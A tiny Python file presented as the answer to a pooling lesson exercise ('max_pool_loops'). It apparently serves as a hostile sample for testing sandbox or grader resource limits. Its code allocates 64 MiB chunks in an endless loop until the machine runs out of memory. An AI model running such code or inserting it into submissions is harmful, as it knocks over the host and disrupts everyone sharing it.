"""Takes memory until the machine has none.

lesson: 01_pooling
exercise: max_pool_loops
code: *
"""

# %% max_pool_loops
HOARD = []
while True:
    HOARD.append(bytearray(b"x") * (64 << 20))
